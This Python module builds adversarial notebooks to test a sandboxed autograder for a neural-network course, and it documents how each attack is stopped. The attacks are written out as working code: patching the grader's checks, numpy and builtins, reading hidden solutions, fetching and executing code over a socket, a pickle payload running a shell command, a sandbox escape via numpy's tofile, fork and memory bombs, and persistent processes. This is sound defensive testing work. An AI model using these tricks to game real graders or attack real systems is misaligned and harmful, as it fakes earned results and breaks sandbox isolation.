"""Attacks on the autograder: chapter 01-neuron notebooks that try to get points they have not earned.

``build(targets)`` returns ``{student_id: notebook}``: the attacks below, plus three honest students
(``a-honest-reference``, ``b-honest-loops`` and ``zz-honest``, who sort before and after the
attacks). Every attack's own answers are missing (the blank release) or wrong (zeros of the right
shape), so any point it scores is a point it did not earn. ``Targets`` holds the real paths an
attack aims at (the repository, the grading output folder, a folder on the grading machine outside
the sandbox), the loopback port of a server that hands out the reference answers, and a token that
marks every file and process an attack makes, so a test can look for them afterwards.
``tests/test_attacks.py`` grades them all in one batch and checks each one.

What each attack tries, and what stops it in the sandboxed grader (``autograder.grader``: test
cells run in a trusted grader process, taken from the source notebook; the student's cells run in
a bubblewrap sandbox; values cross between the two as plain data):

x01-fake-autograder-module
    Puts a fake ``autograder`` / ``autograder.checks`` in ``sys.modules`` whose checks always pass.
    Stopped: the checks run in the grader process; the kernel's ``sys.modules`` is not the grader's.
x02-edit-checks-file
    Appends "every check passes" to the real ``autograder/checks.py`` by its absolute path (and via
    /proc/1/root and relative paths). Stopped: ``autograder/`` is not mounted in the sandbox; writes
    land in the sandbox's throwaway tmpfs or fail. The honest ``zz-honest``, graded after, keeps 30/30.
x03-patch-numpy-torch
    Replaces np.allclose/isclose/array_equal/all/any, np.testing's asserts, torch.allclose/equal/isclose.
    Stopped: the comparisons run in the grader process, with its own numpy.
x04-patch-builtins
    Replaces isinstance, len, AssertionError and NotImplementedError in ``builtins``. Stopped: the
    kernel's builtins are not the grader's. (The kernel's own wire code breaks on the lying
    isinstance, so the kernel dies: kernel-died, which only hurts the attacker.)
x05-input-transformer
    IPython input transformers (cleanup and post) and an AST transformer that turn test cells into
    ``pass`` and append hard-coded answers to the visible tests to every later cell. Stopped: test
    cells never run in the kernel; the hidden tests use inputs the hard-coded answers do not fit.
x06-custom-exception-handler
    ``set_custom_exc((BaseException,), swallow)``, a silent ``showtraceback`` and ``sys.excepthook``.
    Stopped: a test passes only when the test cell runs to its end in the grader; errors raised in
    the kernel come back to the grader as errors, whatever the kernel shows.
x07-edited-test-cells
    The student's copy of test cells changed: a bare ``relu`` expression, ``pass``, ``True``, points
    raised to 100, a new "test_bonus" cell worth 70 points. Stopped: test code and points are taken
    from the source notebook by grade_id; unknown grade_ids are ignored.
x08-lying-object
    Functions return an object whose ``__eq__``/``__lt__``/``__bool__`` say yes, ``__float__`` is 0,
    ``__array__`` gives zeros. Stopped: a non-data object stays in the kernel as a reference, and the
    grader's proxy forwards no comparison, truth test or conversion.
x09-lying-array-subclass
    An ndarray subclass and a torch.Tensor subclass whose ``__eq__``/``__array_ufunc__``/
    ``__torch_function__`` lie. Stopped: arrays and tensors cross as dtype, shape and bytes only;
    the subclass is dropped.
x10-read-source-notebook
    (x10, x11, x12, x14 empty their answer cells: their answers were to come from outside.)
    Reads solutions/01-neuron/01-neuron.ipynb by its absolute path (also /proc/1/root, relative
    paths, a few globs) and the grader's files, and execs the solution cells. Stopped: solutions/,
    autograder/ and the work folder are not mounted.
x11-import-autograder
    ``from autograder import reference`` after putting the repository on sys.path. Stopped: the
    package is not in the sandbox.
x12-read-other-student
    Reads the honest ``b-honest-loops``'s copy in the grading work folder (its absolute path, and a
    glob over every student) and execs its answers. Stopped: the work folder is not mounted.
x13-write-outside
    Writes files in the repository, the output folder's grades.csv, another student's feedback page,
    a host folder, /etc, /root and /tmp. Stopped: none of those is mounted writable (the sandbox's
    / and /tmp are its own tmpfs, thrown away with it).
x14-network
    Connects to a loopback server on the grading machine that hands out the reference answers, and
    resolves / connects to outside addresses. Stopped: the sandbox has its own empty network namespace.
x15-sys-exit
    ``sys.exit()`` in a cell, ``exit()``, and a function that calls ``sys.exit``. Stopped: SystemExit
    is an error like any other (the cell fails, the call's test fails); the kernel lives on.
x16-os-exit
    ``os._exit(0)`` in a cell. Result: kernel-died, the rest of the tests cannot run its code.
x17-infinite-loop
    ``while True: pass`` in a cell. Result: timeout (interrupted after the cell time limit).
x18-stubborn-loop
    Ignores SIGINT and loops. Result: timeout; the kernel is killed after the grace period.
x19-memory-bomb
    ``bytearray(3 GiB)``, then 256 MB numpy blocks until allocation fails, and a function that asks for
    3 GiB. Result: the allocations fail with MemoryError (the address-space cap), nothing else happens.
x20-memory-children
    Three forked children each touch 450 MB, then the kernel grows: together past the 2 GiB limit,
    which no single process reaches. Result: memory-limit (the cgroup's OOM killer stops the kernel).
x21-fork-bomb
    Up to 100,000 os.fork() calls, each child exec'ing a sleep. Result: the cgroup's process limit
    (256) makes every fork after the first ~250 fail; the failing forks still take ~1 ms each and the
    loop does not see the interrupt, so the cell times out and the kernel is killed with every child.
x22-leftover-process
    Starts ``sleep``-ing Python processes meant to outlive the kernel: a new session ignoring SIGTERM
    and SIGHUP, and a double fork. Stopped: the cgroup is killed and the sandbox's pid namespace ends.
x23-output-flood
    Prints about 350 MB to stdout and stderr. Result: only the last few kB are kept; the batch finishes.
x24-pickle-payload
    Returns an object whose ``__reduce__`` runs a shell command, an object-dtype array of them, a
    structured array with an object field, a dict shaped like a wire tag, raw pickle bytes.
    Stopped: nothing is ever unpickled; objects stay in the kernel as references; object dtypes
    are refused.
x25-forged-wire
    Writes messages straight into the kernel's wire (its file descriptors, from sys.argv): requests
    for grader objects by id, and a forged reply holding an object-dtype array (a pickle) and refs
    to grader object ids. Stopped: the grader serves only calls, iteration, indexing and reads of
    the objects lent to the current call (no arithmetic, no lookups); object dtypes are refused;
    requests are numbered, so the forged reply is an answer out of turn and ends the kernel.
x26-escape-lent-class
    A function returns a tensor-like object; ``checks.assert_close`` calls its ``astype(np.float64)``
    and so lends the grader's own ``numpy.float64`` class to student code, whose public methods the
    kernel may read and call: ``float64.tofile(x, path, sep=" ", format=TEXT)`` then writes any text
    to any path, run by the grader process, outside the sandbox. Targets a marker in a host folder and
    an earlier student's feedback page. Stopped: ``checks.to_numpy`` keeps only values whose real
    type is an array or tensor (a proxy's ``__class__`` can claim anything), classes and modules are
    never lent, and student code may read attributes only of lent data loaders, datasets and random
    generators. (Before that fix, aimed at autograder/checks.py on a throwaway copy, it gave every
    student graded after it 30/30.)
x27-low-precision-dtype
    Answers 1% off, returned as bfloat16 tensors, hoping for bfloat16's tolerance. Stopped: the
    expected value's dtype sets the tolerance, and an answer can loosen it to float32's at most.
"""
import json
import os
import re
import socket
import threading
from dataclasses import dataclass, field
from pathlib import Path
from string import Template

import nbformat

from autograder import submissions
from autograder.notebooks import grade_id, is_test

SLUG = "01-neuron"
HONEST = ("a-honest-reference", "b-honest-loops", "zz-honest")
VICTIM = "b-honest-loops"          # an honest student graded before the attacks
PAGE_VICTIM = "a-honest-reference"  # whose feedback page x13 tries to overwrite
SOLUTIONS = ("relu", "sigmoid", "tanh", "softmax", "neuron_forward", "binary_cross_entropy",
             "perceptron_train", "logistic_regression_fit")


@dataclass(frozen=True)
class Targets:
    """The real things the attacks aim at."""
    root: Path          # the repository the grader runs from
    out: Path           # the grading output folder (grades.csv, feedback/, .work/)
    host_dir: Path      # a folder on the grading machine, outside the sandbox
    port: int           # a loopback TCP server on the grading machine (``LoopbackServer``)
    token: str          # unique per run: marks every file and process an attack makes
    victim_copy: Path = None  # the victim's copy in the work folder (default: the sandboxed grader's layout)
    escape_writes: dict = field(default=None)  # x26: {path: text}; default: a host marker and a feedback page
    # where x14 tries to reach the outside world (an unsandboxed run may point them at harmless addresses)
    outside_hosts: tuple = (("example.com", 80), ("1.1.1.1", 53), ("8.8.8.8", 443))
    outside_name: str = "pypi.org"
    forks: int = 100000  # x21's fork attempts (an unsandboxed run has no process limit to stop them)

    def copy_of_victim(self):
        return Path(self.victim_copy or self.out / ".work" / "students" / VICTIM / "submitted.ipynb")

    def marker(self, name):
        """A file on the grading machine that exists only if attack ``name`` got out."""
        return self.host_dir / f"{name}-{self.token}"

    def process_marker(self):
        return f"dlcourse-leftover-{self.token}"

    def fork_sleep(self):
        """The fork bomb's children run ``sleep`` for this many seconds: unique, so it marks them."""
        return f"40.{int(self.token[:8], 16) % 10 ** 6:06d}"

    def escape_targets(self):
        if self.escape_writes is not None:
            return dict(self.escape_writes)
        text = f"ESCAPED {self.token}: written by x26 from inside the sandbox\n#"
        return {str(self.marker("x26-escape")): text,
                str(self.out / "feedback" / VICTIM / f"{SLUG}.html"): text}

    def outside_writes(self):
        """x13's targets: none may exist (or hold the token) after grading."""
        name = f"dlcourse-attack-{self.token}"
        return {"repository": self.root / f"{name}.txt",
                "repository package": self.root / "autograder" / f"{name}.py",
                "grades.csv": self.out / "grades.csv",
                "feedback page": self.out / "feedback" / PAGE_VICTIM / f"{SLUG}.html",
                "host folder": self.host_dir / f"x13-{self.token}",
                "/etc": Path("/etc") / name,
                "/root": Path("/root") / name,
                "/tmp": Path("/tmp") / name}


# checks that always pass: appended to checks.py by x02, and the whole file x26 can write
PASS_ALL_CHECKS = """
# --- written by an attack: every check passes ---
import numpy as _np


def _passes(*args, **kwargs):
    return None


def call(func, *args, **kwargs):
    if getattr(func, "__name__", "") in ("perceptron_train", "logistic_regression_fit"):
        return _np.zeros(2), 0.0
    return _np.zeros((2, 2))


call_without_warnings = call


def call_without_ops(pattern, message, func, *args, **kwargs):
    return _np.zeros((2, 2))


assert_close = assert_equal = expect = compare = _passes
"""
PASS_ALL_CHECKS_FILE = ('import numpy as np\n\n\nclass NotImplementedYet(AssertionError):\n    pass\n\n\n'
                        'def rng(seed):\n    return np.random.default_rng(seed)\n\n\n'
                        'def active_rules(objects=False):\n    return []\n' + PASS_ALL_CHECKS)

# wrong answers: zeros of the right shape (so a lying comparison would be all it takes)
WRONG = {
    "relu": "def relu(x):\n    return np.zeros(np.shape(x))",
    "sigmoid": "def sigmoid(x):\n    return np.zeros(np.shape(x))",
    "tanh": "def tanh(x):\n    return np.zeros(np.shape(x))",
    "softmax": "def softmax(z, axis=-1):\n    return np.zeros(np.shape(z))",
    "neuron_forward": "def neuron_forward(X, w, b, activation):\n    return np.zeros(len(X))",
    "binary_cross_entropy": "def binary_cross_entropy(p, y):\n    return 0.0",
    "perceptron_train": "def perceptron_train(X, y, epochs, lr):\n    return np.zeros(np.shape(X)[1]), 0.0",
    "logistic_regression_fit": ("def logistic_regression_fit(X, y, lr, steps):\n"
                                "    return np.zeros(np.shape(X)[1]), 0.0"),
}

# answers that fit the visible tests only (what x05 appends to every cell)
HARDCODED = """
import numpy as np
relu = lambda x, *a, **k: np.array([0.0, 0.0, 0.0, 0.5, 3.0])
sigmoid = lambda x, *a, **k: np.array([0.5, 0.8807970779778823, 0.11920292202211755])
tanh = lambda x, *a, **k: np.array([0.0, 0.7615941559557649, -0.7615941559557649])
softmax = lambda z, *a, **k: np.array([0.09003057317038046, 0.24472847105479764, 0.6652409557748219])
neuron_forward = lambda *a, **k: np.array([-1.25, 1.25, 1.25])
binary_cross_entropy = lambda *a, **k: 0.16425203348601893
"""

# the honest student who writes it differently: loops and the math module instead of vectorised numpy
LOOPS = {
    "relu": '''def relu(x):
    """Rectified linear unit, entry by entry: max(x, 0)."""
    x = np.asarray(x, dtype=float)
    out = np.empty_like(x)
    for index, value in np.ndenumerate(x):
        out[index] = value if value > 0 else 0.0
    return out''',
    "sigmoid": '''import math


def sigmoid(x):
    """Logistic sigmoid 1 / (1 + exp(-x)), stable for any x."""
    x = np.asarray(x, dtype=float)
    out = np.empty_like(x)
    for index, value in np.ndenumerate(x):
        if value >= 0:
            out[index] = 1.0 / (1.0 + math.exp(-value))
        else:
            e = math.exp(value)
            out[index] = e / (1.0 + e)
    return out''',
    "tanh": '''def tanh(x):
    """Hyperbolic tangent, stable for any x."""
    x = np.asarray(x, dtype=float)
    out = np.empty_like(x)
    for index, value in np.ndenumerate(x):
        out[index] = math.tanh(value)
    return out''',
    "softmax": '''def softmax(z, axis=-1):
    """Softmax of z along `axis`, stable for large scores."""
    z = np.moveaxis(np.asarray(z, dtype=float), axis, -1)
    out = np.empty_like(z)
    for index in np.ndindex(z.shape[:-1]):
        row = z[index]
        top = max(row)
        exps = [math.exp(v - top) for v in row]
        total = sum(exps)
        out[index] = [e / total for e in exps]
    return np.moveaxis(out, -1, axis)''',
    "neuron_forward": '''def neuron_forward(X, w, b, activation):
    """Outputs activation(X @ w + b) of one neuron for a batch X of shape (n, d)."""
    z = [sum(x_ij * w_j for x_ij, w_j in zip(row, np.asarray(w, dtype=float))) + b
         for row in np.asarray(X, dtype=float)]
    return activation(np.array(z, dtype=float))''',
    "binary_cross_entropy": '''def binary_cross_entropy(p, y):
    """Mean binary cross-entropy of probabilities p against labels y (both shape (n,))."""
    p, y = np.asarray(p, dtype=float), np.asarray(y, dtype=float)
    total = 0.0
    for p_i, y_i in zip(p, y):
        p_i = min(max(p_i, 1e-7), 1 - 1e-7)
        total += -(y_i * math.log(p_i) + (1 - y_i) * math.log(1 - p_i))
    return total / len(p)''',
    "perceptron_train": '''def perceptron_train(X, y, epochs, lr):
    """Perceptron rule from zeros, examples in order; returns (w, b)."""
    X = np.asarray(X, dtype=float)
    w, b = np.zeros(X.shape[1]), 0.0
    for epoch in range(epochs):
        for i in range(len(X)):
            score = sum(X[i, j] * w[j] for j in range(X.shape[1])) + b
            error = y[i] - (1.0 if score > 0 else 0.0)
            if error:
                w = w + lr * error * X[i]
                b = b + lr * error
    return w, b''',
    "logistic_regression_fit": '''def logistic_regression_fit(X, y, lr, steps):
    """Full-batch gradient descent on the mean binary cross-entropy, from zeros; returns (w, b)."""
    X, y = np.asarray(X, dtype=float), np.asarray(y, dtype=float)
    n = len(y)
    w, b = np.zeros(X.shape[1]), 0.0
    for step in range(steps):
        p = sigmoid(X @ w + b)
        grad_w, grad_b = np.zeros_like(w), 0.0
        for x_i, p_i, y_i in zip(X, p, y):
            grad_w += (p_i - y_i) * x_i
            grad_b += p_i - y_i
        w = w - lr * grad_w / n
        b = b - lr * grad_b / n
    return w, b''',
}


def _code(template, **params):
    """Attack source from a template: ``$NAME`` becomes ``repr(params[NAME])``."""
    return Template(template).substitute({k: repr(str(v) if isinstance(v, Path) else v) for k, v in params.items()})


# --- the attacks ----------------------------------------------------------------------------

FAKE_AUTOGRADER = """
import sys
import types

import numpy as np


def _passes(*args, **kwargs):
    return None


fake = types.ModuleType("autograder")
fake.__path__ = []
fake_checks = types.ModuleType("autograder.checks")
for _name in ("assert_close", "assert_equal", "expect", "compare"):
    setattr(fake_checks, _name, _passes)
def _call(func, *args, **kwargs):
    if getattr(func, "__name__", "") in ("perceptron_train", "logistic_regression_fit"):
        return np.zeros(2), 0.0
    return np.zeros((2, 2))


fake_checks.call = fake_checks.call_without_warnings = _call
fake_checks.rng = np.random.default_rng
fake_checks.__getattr__ = lambda name: _passes
fake.checks = fake_checks
fake.reference = lambda slug, name: (lambda *args, **kwargs: np.zeros((2, 2)))
sys.modules["autograder"] = fake
sys.modules["autograder.checks"] = fake_checks
sys.modules["autograder.reference_solutions"] = fake
checks, reference = fake_checks, fake.reference
"""

EDIT_CHECKS = """
import os

report = {}
for path in [$root + "/autograder/checks.py", "/proc/1/root" + $root + "/autograder/checks.py",
             "../../../../autograder/checks.py", "../../../../../autograder/checks.py",
             "../../../../../../autograder/checks.py"]:
    try:
        with open(path, "a") as f:
            f.write($payload)
        report[path] = "appended"
    except Exception as err:
        report[path] = repr(err)
with open("edit-checks.txt", "w") as f:
    f.write(repr(report))
"""

PATCH_NUMPY_TORCH = """
import numpy as np
import numpy.testing


def _yes(*args, **kwargs):
    return True


def _nothing(*args, **kwargs):
    return None


def _all_close(a, b, *args, **kwargs):
    return np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), dtype=bool)


np.allclose = np.array_equal = np.array_equiv = np.all = np.alltrue = _yes
np.any = lambda *args, **kwargs: False
np.isclose = _all_close
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
              "assert_almost_equal"):
    setattr(np.testing, _name, _nothing)
import torch
import torch.testing

torch.allclose = torch.equal = _yes
torch.isclose = lambda a, b, *args, **kwargs: torch.ones(torch.broadcast_shapes(a.shape, b.shape), dtype=torch.bool)
torch.testing.assert_close = _nothing
"""

PATCH_BUILTINS = """
import builtins

_isinstance, _len = builtins.isinstance, builtins.len


class NeverRaised(Exception):
    pass


def lying_isinstance(obj, cls):
    if cls in (tuple, list, (tuple, list)):  # "is it a tuple of the right length?" yes
        return True
    return _isinstance(obj, cls)


def lying_len(obj):
    return 2 if _isinstance(obj, (tuple, list)) else _len(obj)


builtins.isinstance = lying_isinstance
builtins.len = lying_len
builtins.AssertionError = NeverRaised
builtins.NotImplementedError = NeverRaised
"""

INPUT_TRANSFORMER = """
import ast

HARDCODED = $hardcoded


def rewrite(lines):
    text = "".join(lines)
    if "checks." in text or "from autograder" in text:  # a test cell: do nothing
        return ["pass\\n"]
    if HARDCODED in text:
        return lines
    return lines + ["\\n", HARDCODED]  # every later cell also defines answers that fit the visible tests


class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Raise(self, node):
        return ast.Pass()


ip = get_ipython()
ip.input_transformers_cleanup.append(rewrite)
ip.input_transformers_post.append(rewrite)
ip.ast_transformers.append(NoAsserts())
"""

CUSTOM_EXC = """
import sys


def swallow(shell, etype, evalue, tb, tb_offset=None):
    return None


ip = get_ipython()
ip.set_custom_exc((BaseException,), swallow)
ip.showtraceback = lambda *args, **kwargs: None
ip.showsyntaxerror = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
"""

LYING_OBJECT = """
class Anything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __lt__ = __le__ = __gt__ = __ge__ = __eq__

    def __hash__(self):
        return 0

    def __bool__(self):
        return True

    def __float__(self):
        return 0.0

    def __int__(self):
        return 0

    def __index__(self):
        return 0

    def __array__(self, dtype=None, copy=None):
        return np.zeros(5)

    def __len__(self):
        return 2

    def __getitem__(self, key):
        if isinstance(key, int) and not -2 <= key < 2:
            raise IndexError(key)
        return 0.0

    def __sub__(self, other):
        return self

    __add__ = __radd__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
    __matmul__ = __rmatmul__ = __neg__ = __abs__ = __sub__
    shape = (2,)


def relu(x):
    return Anything()


sigmoid = tanh = relu


def softmax(z, axis=-1):
    return Anything()


def neuron_forward(X, w, b, activation):
    return Anything()


def binary_cross_entropy(p, y):
    return Anything()


def perceptron_train(X, y, epochs, lr):
    return Anything(), Anything()


logistic_regression_fit = perceptron_train
"""

LYING_SUBCLASS = """
import numpy as np
import torch


class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        if ufunc in (np.isclose, np.equal, np.less_equal, np.isfinite):
            return np.ones(np.shape(self), dtype=bool)
        return super().__array_ufunc__(ufunc, method, *[np.asarray(i) for i in inputs], **kwargs)

    def __array_function__(self, func, types, args, kwargs):
        if func in (np.allclose, np.array_equal, np.isclose):
            return True
        return super().__array_function__(func, types, args, kwargs)


class LyingTensor(torch.Tensor):
    def __eq__(self, other):
        return torch.ones(self.shape, dtype=torch.bool)

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal, torch.isclose):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})


def relu(x):
    return np.zeros(np.shape(x)).view(AlwaysEqual)


def sigmoid(x):
    return torch.zeros(np.shape(x), dtype=torch.float64).as_subclass(LyingTensor)


tanh = relu


def softmax(z, axis=-1):
    return np.zeros(np.shape(z)).view(AlwaysEqual)


def neuron_forward(X, w, b, activation):
    return torch.zeros(len(X), dtype=torch.float64).as_subclass(LyingTensor)


def binary_cross_entropy(p, y):
    return np.zeros(()).view(AlwaysEqual)


def perceptron_train(X, y, epochs, lr):
    return np.zeros(np.shape(X)[1]).view(AlwaysEqual), np.zeros(()).view(AlwaysEqual)


logistic_regression_fit = perceptron_train
"""

EXEC_SOLUTIONS = """
import json


def exec_solutions(path):
    with open(path) as f:
        nb = json.load(f)
    found = 0
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if cell["cell_type"] == "code" and meta.get("solution"):
            source = cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"])
            exec(source, globals())
            found += 1
    return found
"""

READ_SOURCE = EXEC_SOLUTIONS + """
import glob

report = {}
source = "solutions/01-neuron/01-neuron.ipynb"
candidates = [$root + "/" + source, "/proc/1/root" + $root + "/" + source]
candidates += ["../" * up + source for up in range(1, 8)]
for pattern in ["/work/*/" + source, "/home/*/" + source, "/tmp/*/" + source, "/root/*/" + source]:
    candidates += glob.glob(pattern)
for path in candidates:
    try:
        report[path] = exec_solutions(path)
        break
    except Exception as err:
        report[path] = repr(err)
for path in [$root + "/autograder/reference_solutions.py", $root + "/autograder/checks.py", "../job.json",
             "../result.json", "/proc/1/cmdline", "/proc/1/environ"]:
    try:
        with open(path, "rb") as f:
            report[path] = f.read(200).decode("utf-8", "replace")
    except Exception as err:
        report[path] = repr(err)
with open("read-source.txt", "w") as f:
    f.write(repr(report))
"""

IMPORT_AUTOGRADER = """
import importlib
import sys

sys.path[:0] = [$root, $root + "/autograder"]
report = []
try:
    reference = importlib.import_module("autograder").reference
    for name in $names:
        globals()[name] = reference("01-neuron", name)
    report.append("imported")
except Exception as err:
    report.append(repr(err))
try:
    from autograder.reference_solutions import reference as ref2

    report.append("imported reference_solutions")
except Exception as err:
    report.append(repr(err))
with open("import.txt", "w") as f:
    f.write(repr(report))
"""

READ_OTHER = EXEC_SOLUTIONS + """
import glob

report = {}
paths = [$victim_copy] + glob.glob($out + "/.work/students/*/submitted.ipynb")
paths += glob.glob($out + "/.work/students/*/submitted/*/*/*.ipynb") + glob.glob("/home/*/*.ipynb")
for path in paths:
    if "x12" in path:
        continue  # not our own
    try:
        report[path] = exec_solutions(path)
        break
    except Exception as err:
        report[path] = repr(err)
with open("read-other.txt", "w") as f:
    f.write(repr(report))
"""

WRITE_OUTSIDE = """
import os

report = {}
for path in $paths:
    try:
        with open(path, "a") as f:
            f.write("written by x13 " + $token + "\\n")
        report[path] = "written"
    except Exception as err:
        report[path] = repr(err)
with open("write-outside.txt", "w") as f:
    f.write(repr(report))
"""

NETWORK = """
import socket

report = {}
try:
    with socket.create_connection(("127.0.0.1", $port), timeout=2) as s:
        received = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            received += chunk
    exec(received.decode(), globals())  # the reference answers, from the grading machine
    report["loopback"] = "got %d bytes" % len(received)
except Exception as err:
    report["loopback"] = repr(err)
for host, port in $hosts:
    try:
        socket.create_connection((host, port), timeout=1).close()
        report[host] = "connected"
    except Exception as err:
        report[host] = repr(err)
try:
    report["dns"] = repr(socket.getaddrinfo($name, 443)[:1])
except Exception as err:
    report["dns"] = repr(err)
with open("network.txt", "w") as f:
    f.write(repr(report))
"""

SYS_EXIT_CELL = """
import sys

sys.exit(0)
"""

SYS_EXIT_MORE = """
import sys

try:
    exit()
except BaseException:
    pass
raise SystemExit("bye")
"""

SYS_EXIT_FUNCTION = """
import sys


def relu(x):
    sys.exit(3)
"""

OS_EXIT = """
import os

os._exit(0)
"""

INFINITE_LOOP = """
while True:
    pass
"""

STUBBORN_LOOP = """
import signal
import time

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        time.sleep(0.1)
    except BaseException:
        pass
"""

MEMORY_BOMB = """
import numpy as np

report = []
try:
    hog = bytearray(3 * 2 ** 30)
    report.append("3 GiB bytearray allocated")
except MemoryError as err:
    report.append("bytearray: MemoryError")
blocks = []
try:
    while True:
        blocks.append(np.ones(2 ** 25))  # 256 MB, touched
except MemoryError:
    pass
report.append("held %d MB" % (sum(b.nbytes for b in blocks) // 2 ** 20))
with open("memory.txt", "w") as f:
    f.write(repr(report))
"""

MEMORY_FUNCTION = """
def relu(x):
    return np.ones(3 * 2 ** 30 // 8) * 0  # 3 GiB
"""

MEMORY_CHILDREN = """
import os
import time

import numpy as np

children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        try:
            block = np.ones(450 * 2 ** 20 // 8)  # 450 MB, touched
            time.sleep(60)
        finally:
            os._exit(0)
    children.append(pid)
time.sleep(1.5)
grown = []
for _ in range(12):
    grown.append(np.ones(100 * 2 ** 20 // 8))  # the kernel itself grows 100 MB at a time
with open("memory-children.txt", "w") as f:
    f.write("the kernel holds %d MB and is still alive" % (len(grown) * 100))
"""

FORK_BOMB = """
import os
import shutil

sleep = shutil.which("sleep") or "/bin/sleep"
started = failed = 0
errors = set()
for _ in range($forks):
    try:
        pid = os.fork()
    except OSError as err:
        failed += 1
        errors.add(err.errno)
        if failed == 1:  # what stopped it, and when
            with open("fork-bomb.txt", "w") as f:
                f.write("%d started, then fork failed: %s" % (started, err))
        continue
    if pid == 0:
        try:
            os.execv(sleep, ["sleep", $seconds])
        finally:
            os._exit(0)
    started += 1
with open("fork-bomb.txt", "a") as f:
    f.write("; in all %d started, %d failed (%s)" % (started, failed, sorted(errors)))
"""

LEFTOVER = """
import os
import subprocess
import sys

mark = $marker
subprocess.Popen([sys.executable, "-c", "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
                  "signal.signal(signal.SIGHUP, signal.SIG_IGN); time.sleep(300)", mark + "-session"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", mark + "-double-fork"])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
with open("leftover.txt", "w") as f:
    f.write("started")
"""

OUTPUT_FLOOD = """
import os
import sys

line = "flood " * 174762 + "\\n"  # about 1 MB
for _ in range(300):
    sys.stdout.write(line)
sys.stdout.flush()
block = b"e" * 2 ** 20
for _ in range(50):
    os.write(2, block)
"""

PICKLE_PAYLOAD = """
import base64
import os
import pickle

import numpy as np

MARK = $marker


class Payload:
    def __reduce__(self):
        return (os.system, ("touch " + MARK,))


def relu(x):
    return Payload()


def sigmoid(x):
    return np.array([Payload(), Payload(), Payload()], dtype=object)


def tanh(x):
    return np.zeros(3, dtype=[("a", "f8"), ("b", "O")])


def softmax(z, axis=-1):  # a dict shaped like a wire value
    return {"$$t": "nd", "dtype": "O", "shape": [1], "b": base64.b64encode(pickle.dumps(Payload())).decode()}


def neuron_forward(X, w, b, activation):
    return pickle.dumps(Payload())


def binary_cross_entropy(p, y):
    return np.array(Payload(), dtype=object)
"""

FORGED_WIRE = """
import base64
import json
import os
import pickle
import struct
import sys

MARK = $marker


class Payload:
    def __reduce__(self):
        return (os.system, ("touch " + MARK,))


def _fds():
    return int(sys.argv[1]), int(sys.argv[2])  # kernel.py IN_FD OUT_FD


def _send(message):
    body = json.dumps(message).encode()
    os.write(_fds()[1], struct.pack(">Q", len(body)) + body)


def _read(n):
    data = b""
    while len(data) < n:
        chunk = os.read(_fds()[0], n - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data


def _receive():
    return json.loads(_read(struct.unpack(">Q", _read(8))[0]))


pickled = {"$$t": "nd", "dtype": "O", "shape": [1], "b": base64.b64encode(pickle.dumps(Payload())).decode()}
grader_refs = [{"$$t": "ref", "side": "g", "id": i, "type": "object"} for i in range(0, 4)]

# 1. requests to the grader, while it waits for this cell (read the replies back, to stay in step)
answers = []
try:
    for message in [{"op": "getattr", "args": [grader_refs[1], "system"]},
                    {"op": "call", "args": [grader_refs[1], [], {"$$t": "dict", "v": []}]},
                    {"op": "isinstance", "args": [pickled, grader_refs[2]]},
                    {"op": "lookup", "args": [["checks", "reference"]]},
                    {"op": "binop", "args": ["mul", [7], 3]}]:
        _send(message)
        answers.append(_receive())
except Exception as err:
    answers.append(repr(err))
with open("forged-wire.txt", "w") as f:
    f.write(json.dumps(answers))


# 2. a forged reply to the grader's call of relu: a pickle in an object array, refs to grader objects
def relu(x):
    value = {"$$t": "dict", "v": [["value", pickled], ["changed", {"$$t": "dict", "v": []}],
                                   ["rng", {"$$t": "dict", "v": []}], ["moved", grader_refs[1]],
                                   ["warnings", []], ["refused", []]]}
    try:
        _send({"reply": True, "value": value})
    except Exception:
        pass
    return np.zeros(np.shape(x))
"""

ESCAPE = """
import numpy as np

TARGETS = $targets


class Tensorish:
    \"\"\"Looks enough like a torch tensor for checks.to_numpy to keep it as it is.\"\"\"
    shape = (5,)
    dtype = "float64"
    device = "cpu"

    def detach(self):
        return self

    def cpu(self):
        return self

    def numpy(self):
        return self

    def astype(self, dtype):
        # `dtype` is the grader's numpy.float64 class, lent to this call: its methods run there
        report = {}
        for path, text in TARGETS.items():
            try:
                dtype.tofile(np.float64(0), path, sep=" ", format=text.replace("%", "%%") + " %s")
                report[path] = "written"
            except Exception as err:
                report[path] = repr(err)
        with open("escape.txt", "w") as f:
            f.write(repr(report))
        return np.zeros(5)


def relu(x):
    return Tensorish()
"""

LOW_PRECISION = """
import numpy as np
import torch


def _sigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1 / (1 + e), e / (1 + e))


def relu(x):  # 1% too large everywhere
    return torch.tensor(np.maximum(x, 0.0) * 1.01, dtype=torch.bfloat16)


def sigmoid(x):  # 1% too large everywhere
    return torch.tensor(_sigmoid(x) * 1.01, dtype=torch.bfloat16)
"""


# --- building the notebooks -----------------------------------------------------------------

def _cell(source):
    return nbformat.v4.new_code_cell(source.strip() + "\n")


def _insert_after_setup(nb, *sources):
    """New code cells right after the setup cell, so they run before any test."""
